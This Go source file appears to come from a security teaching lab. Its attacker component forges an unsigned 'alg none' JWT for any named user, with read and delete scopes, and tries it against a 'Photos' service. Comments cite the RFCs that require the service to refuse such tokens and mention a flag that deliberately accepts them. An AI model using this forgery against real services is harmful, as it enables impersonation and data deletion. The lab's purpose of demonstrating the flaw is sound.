package web

// Attack 05, the unsigned token: the attacker writes the claims it wants, sets alg none, and
// leaves the signature empty (RFC 7519 §6, an Unsecured JWT). Photos must refuse it: RFC 8725
// §3.1 says a verifier must not let the token choose its algorithm, and "none" is no signature
// at all. Only PHOTOS_INSECURE_ACCEPT_ALG_NONE=true lets it through.

import (
	"encoding/base64"
	"encoding/json"
	"net/http"

	"github.com/labstack/echo/v4"
)

// handleForgeUnsigned forges a token for the user named in the form and tries it at Photos.
func handleForgeUnsigned(a *attacker) echo.HandlerFunc {
	return func(c echo.Context) error {
		sub := c.FormValue("sub")
		if sub == "" {
			sub = "alice"
		}
		token := a.unsignedToken(sub)
		a.keep(loot{Kind: "access_token", Value: token, How: "forged by the attacker: alg none, no signature, sub " + sub,
			Photos: a.tryAtPhotos(c.Request().Context(), token)})
		return c.Redirect(http.StatusSeeOther, "/")
	}
}

// unsignedToken writes an access token with every claim Photos looks for, and no signature.
func (a *attacker) unsignedToken(sub string) string {
	now := a.cfg.Now()
	enc := func(v any) string {
		b, _ := json.Marshal(v)
		return base64.RawURLEncoding.EncodeToString(b)
	}
	header := map[string]any{"alg": "none", "typ": "at+jwt"}
	claims := map[string]any{
		"iss": a.cfg.AccountsURL, "aud": a.cfg.PhotosURL, "sub": sub, "client_id": "printing",
		"scope": "photos.read photos.delete", "jti": randomString(),
		"iat": now.Unix(), "exp": now.Add(10 * 60e9).Unix(),
	}
	return enc(header) + "." + enc(claims) + "."
}
